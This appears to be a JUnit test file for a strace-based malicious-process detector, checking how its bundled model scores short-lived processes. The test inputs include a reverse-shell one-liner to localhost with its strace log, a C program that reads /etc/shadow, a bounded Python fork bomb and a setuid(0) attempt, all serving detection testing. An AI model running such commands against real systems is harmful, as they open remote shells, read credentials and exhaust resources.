package io.procguard.ml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.procguard.core.Status;
import io.procguard.core.Verdict;
import io.procguard.core.process.ProcessRecord;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Processes with fewer than {@code minEvents} events: UNKNOWN (too little evidence), unless an indicator of
 * severity {@value OnnxClassifier#HIGH_SEVERITY} fired, in which case the bundled model scores them like any
 * other. Vectors come from the real parser, tracker and extractor; the logs are strace's own lines.
 */
class ShortProcessScoringTest {
    private final BehaviourFeatures features = new BehaviourFeatures();

    @TempDir
    Path dir;

    @BeforeEach
    void needsTheBundledModel() {
        TrainedModels.assumeBundledModel();
    }

    @Test
    void aShortChildThatOpensTheShadowFileIsScoredWhileShortSiblingsWithoutASeverity3IndicatorStayUnknown() throws Exception {
        // a static program forks three children: one opens /etc/shadow, one only fails setuid(0) (ind.setid_attempt,
        // severity 2), one reads /etc/hostname; all exit at once (the QA repro, strace -f -ttt -T -yy -s 256)
        List<ProcessRecord> ps = processes("""
                100 1796020286.833186 execve("./prog", ["./prog"], 0x7ffd044d5c60 /* 39 vars */) = 0 <0.002254>
                100 1796020286.836723 brk(NULL)       = 0x8602000 <0.000018>
                100 1796020286.836840 brk(0x8602d00)  = 0x8602d00 <0.000016>
                100 1796020286.836971 arch_prctl(ARCH_SET_FS, 0x8602380) = 0 <0.000031>
                100 1796020286.837066 set_tid_address(0x8602650) = 100 <0.000013>
                100 1796020286.837107 set_robust_list(0x8602660, 24) = 0 <0.000013>
                100 1796020286.838279 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x8602650) = 101 <0.000794>
                101 1796020286.839513 set_robust_list(0x8602660, 24) = 0 <0.000066>
                101 1796020286.839871 openat(AT_FDCWD</tmp/x>, "/etc/shadow", O_RDONLY) = 3</etc/shadow> <0.000072>
                101 1796020286.840145 exit_group(0)   = ?
                101 1796020286.840610 +++ exited with 0 +++
                100 1796020286.840700 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x8602650) = 102 <0.000794>
                102 1796020286.840800 set_robust_list(0x8602660, 24) = 0 <0.000066>
                102 1796020286.840900 setuid(0)        = -1 EPERM (Operation not permitted) <0.000010>
                102 1796020286.841000 exit_group(0)   = ?
                102 1796020286.841100 +++ exited with 0 +++
                100 1796020286.841200 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x8602650) = 103 <0.000794>
                103 1796020286.841300 set_robust_list(0x8602660, 24) = 0 <0.000066>
                103 1796020286.841400 openat(AT_FDCWD</tmp/x>, "/etc/hostname", O_RDONLY) = 3</etc/hostname> <0.000072>
                103 1796020286.841500 read(3</etc/hostname>, "box\\n", 4096) = 4 <0.000010>
                103 1796020286.841600 exit_group(0)   = ?
                103 1796020286.841700 +++ exited with 0 +++
                100 1796020286.841800 wait4(-1, NULL, 0, NULL) = 101 <0.000010>
                100 1796020286.841900 exit_group(0)   = ?
                100 1796020286.842000 +++ exited with 0 +++
                """);
        ProcessRecord shadow = pid(ps, 101);
        ProcessRecord setuid = pid(ps, 102);
        ProcessRecord hostname = pid(ps, 103);
        ProcessRecord parent = pid(ps, 100);
        assertThat(shadow.features().get("ind.credential_read")).isEqualTo(1f);
        assertThat(setuid.features().get("ind.setid_attempt")).isEqualTo(1f);
        assertThat(setuid.features().get("ind.max_severity")).isEqualTo(2f);
        assertThat(hostname.features().get("ind.any")).isZero();
        for (ProcessRecord p : ps) {
            assertThat(p.eventCount()).as("pid %d is short", p.pid()).isLessThan(OnnxClassifier.DEFAULT_MIN_EVENTS);
        }

        try (OnnxClassifier c = OnnxClassifier.loadDefault()) {
            List<Verdict> verdicts = c.classifyAll(List.of(parent, shadow, setuid, hostname));
            Verdict v = verdicts.get(1);
            assertThat(v.status()).as("reasons %s", v.reasons()).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
            assertThat(v.score()).isEqualTo(c.score(shadow.features().toArray()));
            assertThat(v.reasons()).anyMatch(r -> r.startsWith("ind.credential_read=1 (+")
                    && r.endsWith("): credentials read (indicator, severity 3; the evidence shows what fired)"));
            assertThat(v.reasons()).last().isEqualTo("scored with " + shadow.eventCount() + " events, fewer than "
                    + OnnxClassifier.DEFAULT_MIN_EVENTS + ": ind.credential_read (severity 3) fired");
            assertThat(v.evidence()).anyMatch(e -> e.startsWith("openat(") && e.contains("/etc/shadow"));

            for (int i : new int[] {0, 2, 3}) {
                ProcessRecord p = List.of(parent, shadow, setuid, hostname).get(i);
                assertThat(verdicts.get(i).status()).as("pid %d", p.pid()).isEqualTo(Status.UNKNOWN);
                assertThat(verdicts.get(i).score()).isNaN();
                assertThat(verdicts.get(i).reasons()).containsExactly("too little evidence: " + p.eventCount()
                        + " events, fewer than " + OnnxClassifier.DEFAULT_MIN_EVENTS);
            }
        }
    }

    @Test
    void aShortReverseShellInALogFilteredWithDashETraceIsScored() throws Exception {
        // bash -c 'sh -i >& /dev/tcp/127.0.0.1/45681 0>&1' under strace -f -yy -e trace=openat,read,socket,connect,write:
        // the shell's process shows 14 calls, its stdio on the TCP socket
        String sock = "TCP:[127.0.0.1:42566->127.0.0.1:45681]";
        List<ProcessRecord> ps = processes("""
                20071 1796021084.726235 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 3<TCP:[3040436]> <0.000106>
                20071 1796021084.728899 connect(3<TCP:[3040436]>, {sa_family=AF_INET, sin_port=htons(45681), sin_addr=inet_addr("127.0.0.1")}, 16) = 0 <0.000369>
                20071 1796021084.735315 openat(AT_FDCWD</tmp/x>, "/etc/ld.so.cache", O_RDONLY|O_CLOEXEC) = 3</etc/ld.so.cache> <0.000083>
                20071 1796021084.735762 openat(AT_FDCWD</tmp/x>, "/lib/x86_64-linux-gnu/libc.so.6", O_RDONLY|O_CLOEXEC) = 3</usr/lib/x86_64-linux-gnu/libc.so.6> <0.000085>
                20071 1796021084.735924 read(3</usr/lib/x86_64-linux-gnu/libc.so.6>, "\\177ELF\\2\\1\\1\\3\\0\\0\\0\\0\\0\\0\\0\\0\\3\\0>\\0\\1\\0\\0\\0", 832) = 832 <0.000010>
                20071 1796021084.741091 openat(AT_FDCWD</tmp/x>, "/dev/tty", O_RDWR) = -1 ENXIO (No such device or address) <0.000039>
                20071 1796021084.741485 write(2<@S@>, "sh: 0: ", 7) = 7 <0.000362>
                20071 1796021084.743936 write(2<@S@>, "can't access tty; job control turned off", 40) = 40 <0.000031>
                20071 1796021084.744047 write(2<@S@>, "\\n", 1) = 1 <0.000024>
                20071 1796021084.744213 write(2<@S@>, "# ", 2) = 2 <0.000144>
                20071 1796021084.744424 read(0<@S@>, "id\\nexit\\n", 8192) = 8 <0.003388>
                20071 1796021084.773468 --- SIGCHLD {si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid=20072, si_uid=0, si_status=0, si_utime=0, si_stime=0} ---
                20071 1796021084.774219 write(2<@S@>, "# ", 2) = 2 <0.000159>
                20071 1796021084.775878 +++ exited with 0 +++
                """.replace("@S@", sock));
        ProcessRecord shell = pid(ps, 20071);
        assertThat(shell.eventCount()).isLessThan(OnnxClassifier.DEFAULT_MIN_EVENTS);
        assertThat(shell.features().get("ind.reverse_shell")).isEqualTo(1f);
        try (OnnxClassifier c = OnnxClassifier.loadDefault()) {
            Verdict v = c.classify(shell);
            assertThat(v.status()).as("reasons %s", v.reasons()).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
            assertThat(v.reasons()).anyMatch(r -> r.startsWith("ind.reverse_shell=1 (+"));
            assertThat(v.reasons()).last().asString().endsWith(": ind.reverse_shell (severity 3) fired");
            assertThat(v.evidence()).anyMatch(e -> e.contains(sock));
        }
    }

    @Test
    void theShortMembersOfARealPythonForkBombAreScoredNotLeftUnknown() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/python3")), "python3 is not installed");
        // the corpus' Python bomb, bounded: each process forks one child per remaining level and waits for them
        Path bomb = dir.resolve("bomb.py");
        Files.writeString(bomb, """
                import os, time
                kids = []
                for level in range(6):
                    pid = os.fork()
                    if pid == 0:
                        kids = []
                        continue
                    kids.append(pid)
                time.sleep(0.05)
                for k in kids:
                    os.waitpid(k, 0)
                """);
        List<ProcessRecord> ps = StraceRuns.processes(StraceRuns.trace(dir, StraceRuns.RECOMMENDED, "/usr/bin/python3",
                bomb.toString()), features);
        assertThat(ps).hasSize(64);
        // every member: those in the runs of 4 generations with 2 or more children each, and their children (schema 7)
        assertThat(ps).allSatisfy(p -> assertThat(p.features().get("ind.fork_storm")).as("pid " + p.pid()).isEqualTo(1f));
        List<ProcessRecord> shortMembers = ps.stream().filter(p -> p.eventCount() < OnnxClassifier.DEFAULT_MIN_EVENTS).toList();
        assertThat(shortMembers).as("members of the storm with fewer than " + OnnxClassifier.DEFAULT_MIN_EVENTS + " events")
                .hasSizeGreaterThanOrEqualTo(32);
        try (OnnxClassifier c = OnnxClassifier.loadDefault()) {
            List<Verdict> verdicts = c.classifyAll(shortMembers);
            for (int i = 0; i < verdicts.size(); i++) {
                Verdict v = verdicts.get(i);
                assertThat(v.status()).as("pid %d: %s", shortMembers.get(i).pid(), v.reasons()).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
                assertThat(v.reasons()).last().asString().endsWith(": ind.fork_storm (severity 2) fired");
            }
        }
    }

    @Test
    void aRealStaticProgramWhoseForkedChildOpensTheShadowFileIsFlagged() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/gcc")), "gcc is not installed");
        Path source = dir.resolve("shadowchild.c");
        Files.writeString(source, """
                #include <fcntl.h>
                #include <sys/wait.h>
                #include <unistd.h>
                int main(void) {
                    pid_t pid = fork();
                    if (pid == 0) {
                        open("/etc/shadow", O_RDONLY); /* denied for a non-root user: still the indicator */
                        _exit(0);
                    }
                    int status;
                    waitpid(pid, &status, 0);
                    return 0;
                }
                """, StandardCharsets.UTF_8);
        Path exe = dir.resolve("shadowchild");
        Process gcc = new ProcessBuilder("/usr/bin/gcc", "-static", "-O1", "-o", exe.toString(), source.toString())
                .redirectErrorStream(true).start();
        String gccOut = new String(gcc.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assumeTrue(gcc.waitFor(120, TimeUnit.SECONDS) && gcc.exitValue() == 0,
                "gcc -static cannot build here (static libc missing?): " + gccOut);

        List<ProcessRecord> ps = StraceRuns.processes(StraceRuns.trace(dir, StraceRuns.RECOMMENDED, exe.toString()), features);
        assertThat(ps).hasSize(2);
        ProcessRecord child = ps.stream().filter(p -> p.features().get("ind.credential_read") == 1f).findFirst().orElseThrow();
        assertThat(child.eventCount()).as("the child is short").isLessThan(OnnxClassifier.DEFAULT_MIN_EVENTS);
        try (OnnxClassifier c = OnnxClassifier.loadDefault()) {
            Verdict v = c.classify(child);
            assertThat(v.status()).as("reasons %s", v.reasons()).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
            assertThat(v.evidence()).anyMatch(e -> e.contains("/etc/shadow"));
        }
    }

    @Test
    void theBundledModelsMaliciousThresholdIsReachableInJava() throws Exception {
        // train.py capped an unreachable malicious threshold at 1.0; a unanimous forest sums to 1.0 in scikit-learn
        // but to 0.99999994 in ONNX Runtime's float32, so that model never said MALICIOUS in Java
        try (OnnxClassifier c = OnnxClassifier.loadDefault()) {
            List<float[]> unanimous = parityRows().stream().filter(r -> r[r.length - 1] == 1.0f).toList();
            assertThat(unanimous).as("parity rows scikit-learn scores 1.0 (every tree says malicious)").isNotEmpty();
            for (float[] row : unanimous) {
                double score = c.score(java.util.Arrays.copyOf(row, row.length - 1));
                assertThat(score).as("ONNX Runtime's sum").isCloseTo(1.0, org.assertj.core.data.Offset.offset(1e-5));
                assertThat(score).as("threshold " + c.maliciousThreshold()).isGreaterThanOrEqualTo(c.maliciousThreshold());
            }
        }
    }

    /** The rows of the parity fixture train.py wrote beside the bundled model: features, then scikit-learn's probability. */
    private static List<float[]> parityRows() throws IOException {
        List<float[]> rows = new java.util.ArrayList<>();
        try (var in = ShortProcessScoringTest.class.getResourceAsStream("/io/procguard/ml/parity/parity.csv")) {
            assumeTrue(in != null, "no parity fixture");
            String[] lines = new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n");
            for (int i = 1; i < lines.length; i++) {
                String[] f = lines[i].split(",");
                float[] v = new float[f.length]; // features, then scikit-learn's probability
                for (int k = 0; k < v.length; k++) {
                    v[k] = Float.parseFloat(f[k]);
                }
                rows.add(v);
            }
        }
        return rows;
    }

    private List<ProcessRecord> processes(String log) throws IOException {
        Path file = Files.createTempFile(dir, "trace", ".log");
        Files.writeString(file, log, StandardCharsets.UTF_8);
        return StraceRuns.processes(file, features);
    }

    private static ProcessRecord pid(List<ProcessRecord> ps, int pid) {
        return ps.stream().filter(p -> p.pid() == pid).findFirst().orElseThrow(() -> new AssertionError("no pid " + pid + " in " + ps));
    }
}
